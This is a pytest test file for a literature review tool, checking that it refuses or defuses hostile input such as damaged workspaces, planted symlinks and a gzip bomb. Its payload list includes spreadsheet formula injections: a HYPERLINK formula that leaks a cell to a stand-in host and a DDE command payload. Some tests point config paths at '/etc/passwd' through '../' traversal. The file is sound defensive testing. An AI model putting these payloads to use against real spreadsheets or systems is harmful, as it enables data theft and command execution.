"""Hostile or careless input, kept together so the next attack starts from here: a damaged or foreign
workspace, planted symlinks, paths out of the review folder, formulas in record text, a mistyped
review.toml. Each case ends in one line naming the file (exit 2) and nothing stored is lost."""

from __future__ import annotations

import csv
import gzip
import os
import re
import resource
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.test_cli import run_cli

from litreview.dedup.cluster import link_fuzzy
from litreview.errors import QueryError, WorkspaceError
from litreview.files import neutralise, restore, write_csv
from litreview.query.ast import Bool, Term, canonical
from litreview.query.evaluate import _within, compile_query, explain, word_test
from litreview.query.lint import lint
from litreview.query.parser import MAX_DEPTH, parse, parse_strategy
from litreview.query.translate import translate
from litreview.records import Citation, Decision
from litreview.screen.commands import export_decisions, import_decisions
from litreview.store.workspace import Workspace, check_run_id

HOSTILE = [
    '=HYPERLINK("http://x/?leak="&B2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB first",
    "\rCR first",
    "'=already quoted",
    "''=twice",
    "plain title",
    "'quoted but harmless",
]


def one_line_exit_2(code, out, *words):
    lines = out.err.strip().splitlines()
    assert code == 2 and len(lines) == 1 and "Traceback" not in out.err, out.err
    for word in words:
        assert word in lines[0], lines[0]


# 1. a workspace that exists is never rebuilt over ----------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"this is not a database", None])
def test_an_existing_file_that_is_not_a_workspace_is_refused(tmp_path, content):
    root = tmp_path / "w"
    root.mkdir()
    db = root / "workspace.sqlite"
    if content is None:  # another program's SQLite database
        conn = sqlite3.connect(db)
        conn.execute("CREATE TABLE mine (x)")
        conn.commit()
        conn.close()
    else:
        db.write_bytes(content)
    before = db.read_bytes()
    with pytest.raises(WorkspaceError, match="not|empty"):
        Workspace(root, "demo").open()
    assert db.read_bytes() == before


def test_run_on_a_truncated_workspace_exits_2_and_leaves_it(review_copy, tmp_path, monkeypatch, capsys):
    root = tmp_path / "w"
    root.mkdir()
    (root / "workspace.sqlite").write_bytes(b"")
    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(root))
    one_line_exit_2(code, out, "workspace.sqlite", "empty")
    assert (root / "workspace.sqlite").read_bytes() == b""


def _damage_pages(db: Path) -> None:
    pages = db.stat().st_size // 4096
    with db.open("r+b") as handle:
        for page in range(2, pages, 3):
            handle.seek(page * 4096 + 64)
            handle.write(b"\xde\xad\xbe\xef" * 64)


def test_a_damaged_database_page_is_one_line_and_nothing_is_written(tmp_path, monkeypatch, capsys):
    root = tmp_path / "ws"
    records = [Citation(record_id=f"x:{i}", source="x", native_id=str(i), title=f"Title number {i} " * 5,
                        year=2020) for i in range(3000)]  # fmt: skip
    with Workspace(root, "demo") as ws, ws.transaction():
        ws.start_run("r1")
        ws.store_records("r1", records)
    _damage_pages(root / "workspace.sqlite")
    before = (root / "workspace.sqlite").read_bytes()
    for args in (["screen", "export", "--workspace", str(root), "--out", str(tmp_path / "s.csv")],
                 ["screen", "confirm", "--workspace", str(root), "--rule", "R", "--reviewer", "a"]):  # fmt: skip
        code, out = run_cli(monkeypatch, capsys, *args)
        one_line_exit_2(code, out, "workspace.sqlite", "damaged")
    assert (root / "workspace.sqlite").read_bytes() == before
    assert not (tmp_path / "s.csv").exists()


def test_out_naming_a_folder_is_one_line(screened, tmp_path, monkeypatch, capsys, data_dir):
    folder = tmp_path / "a folder"
    folder.mkdir()
    code, out = run_cli(
        monkeypatch, capsys, "screen", "export", "--workspace", str(screened), "--out", str(folder)
    )
    one_line_exit_2(code, out, "a folder", "folder")
    source = tmp_path / "in.ris"
    source.write_text("TY  - JOUR\nTI  - A title\nER  - \n")
    code, out = run_cli(monkeypatch, capsys, "import", str(source), "--out", str(folder))
    one_line_exit_2(code, out, "a folder", "folder")
    assert list(folder.iterdir()) == []


@pytest.fixture
def read_only_copy(screened, tmp_path):
    """The workspace seen through a read-only bind mount: the one way to make a file unwritable for
    root too (chmod does not stop root). Skips where the machine does not allow mounting."""
    view = tmp_path / "ro"
    view.mkdir()
    done = subprocess.run(
        ["mount", "--bind", "-o", "ro", str(screened.parent), str(view)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount read-only here: {done.stderr.decode().strip()}")
    yield view / screened.name
    subprocess.run(["umount", "-l", str(view)], check=False)  # lazy: never leave a mount behind


def test_a_read_only_workspace_can_still_be_read_from_python(read_only_copy):
    import litreview

    ws = litreview.Workspace(read_only_copy)
    assert len(ws.records()) == len(HOSTILE) and ws.screening()["decision"].tolist() == ["maybe"]


def test_a_read_only_workspace_is_one_line(read_only_copy, tmp_path, monkeypatch, capsys, review_copy):
    before = (read_only_copy / "workspace.sqlite").read_bytes()
    code, out = run_cli(monkeypatch, capsys, "screen", "export", "--workspace", str(read_only_copy),
                        "--out", str(tmp_path / "s.csv"))  # fmt: skip
    one_line_exit_2(code, out, "workspace.sqlite", "read-only")
    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(read_only_copy))
    one_line_exit_2(code, out, str(read_only_copy))
    code, out = run_cli(monkeypatch, capsys, "screen", "export", "--workspace", str(tmp_path / "ws"),
                        "--out", str(read_only_copy / "s.csv"))  # fmt: skip
    one_line_exit_2(code, out, str(read_only_copy / "s.csv"), "cannot write")
    assert (read_only_copy / "workspace.sqlite").read_bytes() == before


# 4. nothing written through a symlink, outside the workspace, or over an input ----------------------


def test_the_lock_never_follows_a_planted_symlink(tmp_path):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    root = tmp_path / "w"
    with Workspace(root, "demo"):
        pass
    (root / ".lock").unlink(missing_ok=True)
    (root / ".lock").symlink_to(victim)
    with Workspace(root, "demo") as ws, pytest.raises(WorkspaceError, match="lock"):
        ws.lock()
    assert victim.read_text() == "keep me"


@pytest.mark.parametrize("run_id", ["../..", "/tmp/x", "a/b", "..", "", "x" * 200])
def test_run_ids_are_folder_names(run_id):
    with pytest.raises(WorkspaceError, match="run id"):
        check_run_id(run_id)


def test_cli_refuses_a_run_id_that_climbs_out(review_copy, tmp_path, monkeypatch, capsys):
    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"),
                        "--run-id", "../../escape")  # fmt: skip
    one_line_exit_2(code, out, "run id")
    assert not (tmp_path / "escape").exists()


def test_a_symlinked_runs_folder_is_not_followed(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root = tmp_path / "w"
    with Workspace(root, "demo"):
        pass
    (root / "runs").symlink_to(elsewhere)
    with Workspace(root, "demo") as ws, pytest.raises(WorkspaceError, match="symbolic link"):
        ws.run_dir("r1")


@pytest.fixture
def screened(tmp_path):
    root = tmp_path / "ws"
    records = [Citation(record_id=f"x:{i}", source="x", native_id=str(i), title=title, authors=(title,), year=2020)
               for i, title in enumerate(HOSTILE, start=1)]  # fmt: skip
    with Workspace(root, "demo") as ws, ws.transaction():
        ws.start_run("r1")
        ws.store_records("r1", records)
        ws.replace_auto_decisions("r1", [Decision("x:1", "title_abstract", "maybe")], ["x:1"])
    return root


def test_exports_never_write_over_the_database(screened):
    before = (screened / "workspace.sqlite").read_bytes()
    with pytest.raises(Exception, match="database"):
        export_decisions(screened, screened / "workspace.sqlite")
    assert (screened / "workspace.sqlite").read_bytes() == before


def test_import_refuses_to_write_over_its_input(tmp_path, monkeypatch, capsys, data_dir):
    source = tmp_path / "in.ris"
    source.write_bytes((data_dir / "exports" / "embase_sample.ris").read_bytes()
                       if (data_dir / "exports" / "embase_sample.ris").exists()
                       else b"TY  - JOUR\nTI  - A title\nER  - \n")  # fmt: skip
    before = source.read_bytes()
    code, out = run_cli(monkeypatch, capsys, "import", str(source), "--out", str(source))
    one_line_exit_2(code, out, "input")
    assert source.read_bytes() == before


def test_outputs_are_not_written_through_a_symlink(tmp_path):
    victim = tmp_path / "victim.csv"
    victim.write_text("keep")
    (tmp_path / "out.csv").symlink_to(victim)
    with pytest.raises(Exception, match="symbolic link"):
        write_csv(tmp_path / "out.csv", ("a",), [{"a": "x"}])
    assert victim.read_text() == "keep"


# 5. a review folder reads only its own files, and never echoes one ----------------------------------


@pytest.mark.parametrize(
    ("old", "new"),
    [('file = "snapshot/embase/embase_export.ris"', 'file = "/etc/passwd"'),
     ('file = "snapshot/embase/embase_export.ris"', 'file = "../../../../etc/passwd"'),
     ('query_file = "ctgov.txt"', 'query_file = "/etc/hostname"'),
     ('dir = "snapshot"', 'dir = "/etc"')],
)  # fmt: skip
def test_paths_outside_the_review_folder_are_refused_without_echoing_them(
    review_copy, tmp_path, monkeypatch, capsys, old, new
):
    toml = review_copy / "review.toml"
    assert old in toml.read_text()
    toml.write_text(toml.read_text().replace(old, new))
    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"))
    one_line_exit_2(code, out, "outside the review folder")
    assert "root:" not in out.err and not (tmp_path / "w").exists()


def test_a_symlink_out_of_the_review_folder_is_refused(review_copy, tmp_path, monkeypatch, capsys):
    outside = tmp_path / "secret.txt"
    outside.write_text("neuroendocrine carcinoma secret")
    (review_copy / "ctgov.txt").unlink()
    (review_copy / "ctgov.txt").symlink_to(outside)
    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"))
    one_line_exit_2(code, out, "outside the review folder")
    assert "secret" not in out.err.replace(str(tmp_path), "")


# 11, 12. review.toml: wrong types and unknown tables are one line, never a traceback or a dropped source


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [("[[sources]]\nname = \"embase\"", "[[source]]\nname = \"embase\"", ["unknown table", "source"]),
     ('file = "snapshot/embase/embase_export.ris"', "file = 5", ["file", "expected a path"]),
     ('query_file = "ctgov.txt"', 'query_file = ["ctgov.txt"]', ["query_file", "expected a path"]),
     ('[snapshot]\ndir = "snapshot"', 'snapshot = "x"', ["snapshot"]),
     ("[criteria]\n", "criteria = 5\n[criteria_x]\n", ["criteria"]),
     ('label = "Embase"', 'label = "Embase"\nlabl = "typo"', ["unknown key", "labl"]),
     ('searched = "2022-07-18"\ngroup = "databases"\n\n[[sources]]\nname = "embase"', 'searched = 20220718\ngroup = "databases"\n\n[[sources]]\nname = "embase"', ["searched", "string"])],
)  # fmt: skip
def test_review_toml_mistakes_are_one_line(review_copy, tmp_path, monkeypatch, capsys, old, new, words):
    toml = review_copy / "review.toml"
    text = toml.read_text()
    assert old in text, old
    toml.write_text(text.replace(old, new, 1))
    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"))
    one_line_exit_2(code, out, "review.toml", *words)


# 3. record text is never a live formula ------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_is_reversible_and_defuses_every_formula(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_csv_sheet_defuses_formulas_and_reads_back_the_exact_text(screened, tmp_path):
    sheet = tmp_path / "sheet.csv"
    export_decisions(screened, sheet)
    with open(sheet, newline="") as handle:  # a value may hold a line break
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column in ("title", "authors"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), row[column]
    # a reviewer's reason that starts like a formula survives the round trip exactly
    rows[0].update(decision="exclude", reason=neutralise("=not a formula"), reviewer=neutralise("@ana"))
    with open(sheet, "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    import_decisions(sheet, screened)
    with Workspace.existing(screened) as ws:
        stored = [d for d in ws.decisions() if d.origin == "human"]
    assert [(d.reason, d.reviewer) for d in stored] == [("=not a formula", "@ana")]


def test_xlsx_sheets_hold_record_text_as_text(screened, tmp_path):
    from openpyxl import load_workbook

    sheet = tmp_path / "sheet.xlsx"
    export_decisions(screened, sheet)
    page = load_workbook(sheet).active
    header = [c.value for c in page[1]]
    titles = [page.cell(row=r, column=header.index("title") + 1) for r in range(2, page.max_row + 1)]
    assert all(c.data_type == "s" for c in titles)
    assert sorted(c.value for c in titles) == sorted(HOSTILE)


def test_tables_xlsx_with_no_trials_is_written(tmp_path):
    from openpyxl import load_workbook

    from litreview.extract.tables import Tables, write_tables

    out = write_tables(tmp_path, Tables(rows=[], applied=[], warnings=[]))
    assert load_workbook(out["tables.xlsx"]).sheetnames == ["Tables"]


def test_control_characters_do_not_stop_an_xlsx_export(tmp_path):
    root = tmp_path / "ws"
    with Workspace(root, "demo") as ws, ws.transaction():
        ws.start_run("r1")
        ws.store_records(
            "r1", [Citation(record_id="x:1", source="x", native_id="1", title="bad \x01\x07 title")]
        )
    assert export_decisions(root, tmp_path / "s.xlsx") == 1
    assert os.path.getsize(tmp_path / "s.xlsx") > 0


# 15 (smaller): files that are not what they seem say so -------------------------------------------


def test_an_esearch_result_is_not_imported_as_zero_records(tmp_path, monkeypatch, capsys, data_dir):
    code, out = run_cli(monkeypatch, capsys, "import", str(data_dir / "ncbi/entrez/esearch1.xml"), "--out",
                        str(tmp_path / "o.jsonl"))  # fmt: skip
    one_line_exit_2(code, out, "eSearch result", "esearch1.xml")


def test_a_csv_without_any_id_column_is_refused(tmp_path, monkeypatch, capsys):
    path = tmp_path / "noid.csv"
    path.write_text("title,year\nA study of NEC,2020\n")
    code, out = run_cli(monkeypatch, capsys, "import", str(path), "--out", str(tmp_path / "o.jsonl"))
    one_line_exit_2(code, out, "noid.csv:1", "no record id column")


@pytest.mark.parametrize(
    ("args", "words"),
    [(["frobnicate"], ["No such command"]), (["run", "--nope"], ["No such option"]),
     (["update", "--asof", "2022-13-45"], ["not a date"]), (["screen", "export", "--workspace", "w"], ["--out"])],
)  # fmt: skip
def test_cli_misuse_is_a_usage_message_and_exit_2(monkeypatch, capsys, args, words):
    code, out = run_cli(monkeypatch, capsys, *args)
    assert code == 2 and "Traceback" not in out.err
    assert all(w in out.err for w in words), out.err


def test_version(monkeypatch, capsys):
    from litreview import __version__

    code, out = run_cli(monkeypatch, capsys, "--version")
    assert code == 0 and out.out.strip() == f"litreview {__version__}"


def test_explain_with_an_unknown_id_says_so(monkeypatch, capsys, data_dir, tmp_path):
    strategy = tmp_path / "q.txt"
    strategy.write_text("neuroendocrine[tiab]\n")
    code, out = run_cli(monkeypatch, capsys, "query", "explain", str(strategy),
                        str(data_dir / "ncbi/entrez/pubmed2.xml"), "--id", "pubmed:nope")  # fmt: skip
    one_line_exit_2(code, out, "no record pubmed:nope")


def test_an_update_as_of_before_the_last_window_end_is_refused():
    from datetime import date

    from tests.conftest import REVIEW

    from litreview.config import load_protocol
    from litreview.errors import ConfigError
    from litreview.pipeline.update_plan import update_windows

    protocol = load_protocol(REVIEW)
    last = {"finished_at": "2022-08-03T00:00:00Z",
            "sources": {"pubmed": {"date_window": {"maxdate": "2022/07/18"}}, "ctgov": {"as_of": "2022-08-02"}}}  # fmt: skip
    with pytest.raises(ConfigError, match="before the end of the last run's window"):
        update_windows(protocol, "r1", last, date(2022, 1, 1))
    assert update_windows(protocol, "r1", last, date(2022, 9, 1))["pubmed"].mindate == "2022/07/18"


# --------------------------------------------------------------------------- queries (item 7)


def _alternating(depth: int) -> str:
    query = "z"
    for i in range(depth - 1):
        query = f"(t{i} {'OR' if i % 2 else 'AND'} {query})"
    return query


def test_a_query_of_400_ored_terms_and_400_parentheses_parses():
    ored = parse(" OR ".join(f"term{i}[tiab]" for i in range(400)))
    assert isinstance(ored, Bool) and len(ored.children) == 400  # one group, not 400 nested pairs
    assert parse("(" * 400 + "a" + ")" * 400) == Term("a")
    # a 2,000-line Ovid strategy where each line ORs the one before stays one flat group
    lines = ["1 a.ti."] + [f"{i} {i - 1} or t{i}.ti." for i in range(2, 2001)]
    chained = parse("\n".join(lines))
    assert isinstance(chained, Bool) and len(chained.children) == 2000


def test_every_step_works_at_the_deepest_nesting_read_and_deeper_is_one_error():
    tree = parse(_alternating(MAX_DEPTH))
    for target in ("pubmed", "ovid", "embase", "ctgov"):
        translate(tree, target)
    canonical(tree)
    query = compile_query(tree)
    record = Citation("r:1", "r", "1", title="t1 z")
    query.run([record])
    explain(query, record)
    lint(_alternating(MAX_DEPTH))
    with pytest.raises(QueryError, match=r"E008 groups nested 101 levels deep"):
        parse(_alternating(MAX_DEPTH + 1))
    # a line refused for its depth is reported once, not again by every line that refers to it
    lines = ["1 a.ti."] + [f"{i} {i - 1} {'or' if i % 2 else 'and'} t{i}.ti." for i in range(2, 110)]
    codes = [d.code for d in parse_strategy("\n".join(lines)).errors]
    assert codes == ["E008"]


def test_cli_reports_a_too_deep_query_in_one_line(tmp_path, monkeypatch, capsys):
    path = tmp_path / "deep.txt"
    path.write_text(_alternating(MAX_DEPTH + 50))
    code, captured = run_cli(monkeypatch, capsys, "query", "translate", str(path), "--to", "pubmed")
    said = captured.out + captured.err
    assert code == 1 and "E008 groups nested 150 levels deep" in said and "Traceback" not in said


WILD_WORD = st.text(alphabet="ab*?#", min_size=1, max_size=6).filter(lambda w: any(c.isalpha() for c in w))


def _reference(pattern: str):
    """The wildcard semantics as a (backtracking) regex: fine on short words."""
    body = "".join({"*": "[^ ]*", "?": "[^ ]?", "#": "[^ ]"}.get(c, re.escape(c)) for c in pattern)
    return re.compile(body)


@settings(max_examples=500, deadline=None)
@given(WILD_WORD, st.text(alphabet="ab", max_size=8))
def test_the_wildcard_automaton_agrees_with_a_regex(pattern, word):
    assert word_test(pattern)(word) == bool(_reference(pattern).fullmatch(word))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.lists(st.tuples(st.integers(0, 12), st.integers(0, 2)), min_size=1, max_size=5),
        min_size=2,
        max_size=4,
    ),
    st.integers(0, 3),
    st.booleans(),
)
def test_proximity_by_position_lists_agrees_with_trying_every_choice(raw, distance, ordered):
    candidates = [sorted({(a, a + n) for a, n in spans}) for spans in raw]

    def brute(index, previous):
        if index == len(candidates):
            return True
        for span in candidates[index]:
            if span[0] > previous[1]:
                gap = span[0] - previous[1] - 1
            elif not ordered and span[1] < previous[0]:
                gap = previous[0] - span[1] - 1
            else:
                continue
            if gap <= distance and brute(index + 1, span):
                return True
        return False

    expected = any(brute(1, first) for first in candidates[0])
    assert _within(distance, candidates, ordered) == expected


@pytest.mark.parametrize(
    "query, text",
    [
        ("a*a*a*a*a*a*a*a*b", " ".join(["a" * 60] * 200)),
        (" NEAR/5 ".join(["alpha"] * 6) + " NEAR/5 omega", " ".join(["alpha"] * 3000)),
        ('"a* a* a* a* b"', " ".join(["aaaa"] * 3000)),
        ("exp a*a*a*a*a*a*b/", ""),
    ],
)
def test_worst_case_queries_evaluate_in_time_linear_in_the_text(query, text):
    """Doubling the text at most about doubles the time (a backtracking evaluation squares it or
    worse: these cases ran for minutes before)."""
    import time

    compiled = compile_query(parse(query))

    def seconds(body: str) -> float:
        record = Citation("r:1", "r", "1", title="x", abstract=body, mesh=(body[:5000],))
        start = time.perf_counter()
        compiled.run([record])
        return time.perf_counter() - start

    small, large = seconds(text), seconds(text + " " + text)
    assert large < 1.0
    assert large < 4 * small + 0.01


# --------------------------------------------------------------------------- memory (item 6)

ADDRESS_SPACE_CAP = 800 * 1024 * 1024


def run_capped(*args: str, cwd) -> subprocess.CompletedProcess:
    """The CLI in a subprocess that cannot map more than ADDRESS_SPACE_CAP: a memory regression
    fails the test (MemoryError, exit status) instead of exhausting the machine."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE_CAP, ADDRESS_SPACE_CAP))

    return subprocess.run(
        [sys.executable, "-c", "from litreview.cli import main; main()", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        preexec_fn=cap,
        timeout=300,
    )


def test_a_gzip_bomb_is_refused_within_bounded_memory(tmp_path):
    bomb = tmp_path / "bomb.xml.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as handle:
        handle.write(b'<?xml version="1.0"?>\n<PubmedArticleSet>')
        for _ in range(64):
            handle.write(b"<a/>" * (1 << 20))  # 256 MB of elements that are not records
        handle.write(b"</PubmedArticleSet>")
    done = run_capped("import", str(bomb), "--format", "pubmed-xml", "--out", "out.jsonl", cwd=tmp_path)
    assert done.returncode == 2
    assert "compression bomb" in done.stderr and "Traceback" not in done.stderr


def test_millions_of_non_record_elements_are_freed_as_they_stream_past(tmp_path):
    """10 million tiny elements beside two real records: 1 GB of tree if kept, ~40 MB if freed."""
    baseline = Path("tests/data/ncbi/pubmed_baseline/medline16n0902.xml.gz").resolve()
    text = gzip.decompress(baseline.read_bytes())
    first = text[text.index(b"<MedlineCitation ") : text.index(b"</MedlineCitation>") + 18]
    flat = tmp_path / "flat.xml"
    with open(flat, "wb") as handle:
        handle.write(b'<?xml version="1.0"?>\n<MedlineCitationSet>' + first)
        handle.write(b"<junk>" + b"<a/>" * (5 << 20) + b"</junk>")
        handle.write(b"<a/>" * (5 << 20) + first.replace(b'<PMID Version="1">', b'<PMID Version="1">9'))
        handle.write(b"</MedlineCitationSet>")
    done = run_capped("import", str(flat), "--out", "out.jsonl", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 2


def test_a_record_larger_than_any_real_one_is_refused(tmp_path):
    big = tmp_path / "big.xml"
    big.write_bytes(
        b'<?xml version="1.0"?>\n<PubmedArticleSet>\n<PubmedArticle>'
        + b"<a/>" * (4 << 20)
        + b"</PubmedArticle></PubmedArticleSet>"
    )
    done = run_capped("import", str(big), "--format", "pubmed-xml", "--out", "out.jsonl", cwd=tmp_path)
    assert done.returncode == 2
    assert "big.xml:3: a <PubmedArticle> element larger than 8 MB" in done.stderr


def _article(i: int, copy: int, **changes) -> Citation:
    fields = dict(
        title=f"Platinum etoposide in extrapulmonary neuroendocrine carcinoma cohort {i} outcomes",
        authors=(f"Author{i}, A",), journal="Ann Oncol", year=2019, volume="30", pages=f"{i}-{i + 9}",
        doi=f"10.1000/article{i}",
    )  # fmt: skip
    fields.update(changes)
    return Citation(f"x:{i}-{copy}", "x", f"{i}-{copy}", **fields)  # type: ignore[arg-type]


def test_repeated_records_are_compared_once_per_distinct_content(monkeypatch):
    """An export repeated 200 times: each group of copies is linked to one record, and the number
    of pairwise comparisons does not grow with the number of copies."""
    from litreview.dedup import cluster as fuzzy  # link_fuzzy calls compare through this module

    calls = 0
    original = fuzzy.compare

    def counting(*args, **kwargs):
        nonlocal calls
        calls += 1
        return original(*args, **kwargs)

    monkeypatch.setattr(fuzzy, "compare", counting)
    distinct = 20
    once = [_article(i, 0) for i in range(distinct)]
    fuzzy.link_fuzzy(once)
    calls_once, calls = calls, 0
    records = [_article(i, copy) for copy in range(200) for i in range(distinct)]
    # and a typo'd copy of article 3 that only the fuzzy rules link
    records.append(_article(3, 999, title=once[3].title.replace("etoposide", "etoposdie"), doi=""))
    linkage = fuzzy.link_fuzzy(records)
    assert calls <= calls_once + 2 * distinct + 10
    assert len(linkage.links) == 199 * distinct + 1
    by_id = {link.record_id: link.linked_to for link in linkage.links}
    assert by_id["x:3-999"] == "x:3-0" and by_id["x:3-57"] == "x:3-0"
    assert len({by_id.get(r.record_id, r.record_id) for r in records}) == distinct


def test_identical_notices_the_rules_keep_apart_stay_apart_in_any_number():
    """300 identical "Editorial" notices (no pages) are not one item: grouping them for speed
    must not link them, and each is asked about against a similar record as before."""
    notes = [
        Citation(
            f"n:{i}", "n", str(i), title="Editorial", authors=("Smith, J",), journal="Ann Oncol", year=2019
        )
        for i in range(300)
    ]
    linkage = link_fuzzy(notes)
    assert linkage.links == []


# 10. kill -9 takes the Prefect server with it ------------------------------------------------------


def _children(pid: int) -> list[tuple[int, str]]:
    out = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
            out.append((int(entry.name), cmdline))
    return out


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"  # a zombie holds no memory, port or pipe


def _assert_kill_9_takes_along(parent: subprocess.Popen, wanted: Callable[[str], bool], what: str) -> None:
    """Wait for a child of ``parent`` whose command line is ``wanted``, kill ``parent`` with -9, and
    assert the child ends too (it is killed here at the end either way)."""
    child = None
    try:
        deadline = time.monotonic() + 90
        while child is None and time.monotonic() < deadline and parent.poll() is None:
            child = next((pid for pid, cmd in _children(parent.pid) if wanted(cmd)), None)
            time.sleep(0.05)
        assert child is not None, f"no {what} seen under {parent.args!r}"
        time.sleep(1.0)  # let it come up and get to work
        parent.kill()
        parent.wait()
        deadline = time.monotonic() + 15
        while _alive(child) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not _alive(child), f"the {what} {child} outlived its parent killed with -9"
    finally:
        if parent.poll() is None:
            parent.kill()
        if child is not None and _alive(child):
            os.kill(child, 9)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and PR_SET_PDEATHSIG are Linux")
def test_kill_9_of_the_cli_takes_its_prefect_server_with_it(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    env["PREFECT_HOME"] = str(tmp_path / "prefect")  # no server configured: the CLI starts its own
    cli = subprocess.Popen(
        [sys.executable, "-c", "from litreview.cli import main; main()", "run", "--workspace", str(tmp_path / "w")],
        env=env, cwd=Path(__file__).resolve().parents[2], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    _assert_kill_9_takes_along(cli, lambda cmd: "uvicorn" in cmd and "prefect" in cmd, "Prefect server")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and PR_SET_PDEATHSIG are Linux")
def test_kill_9_of_the_workbench_takes_its_ranking_worker_with_it(tmp_path, data_dir):
    """The workbench ranks in a worker process holding a fitted model (hundreds of MB on a large
    review): a server killed with -9 must not leave it running."""
    from litreview.sources.importers import load_records
    from litreview.testing.processes import free_port
    from litreview.testing.workspaces import build_workspace

    records = list(
        load_records(data_dir / "screening" / "Cohen_2006_Antihistamines.csv", "csv", source="medline")
    )
    build_workspace(tmp_path / "w", records, review_id="kill_test")
    server = subprocess.Popen(
        [sys.executable, "-m", "litreview.cli", "web", "--workspace", str(tmp_path / "w"), "--port", str(free_port())],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    _assert_kill_9_takes_along(server, lambda cmd: "spawn_main" in cmd, "ranking worker")
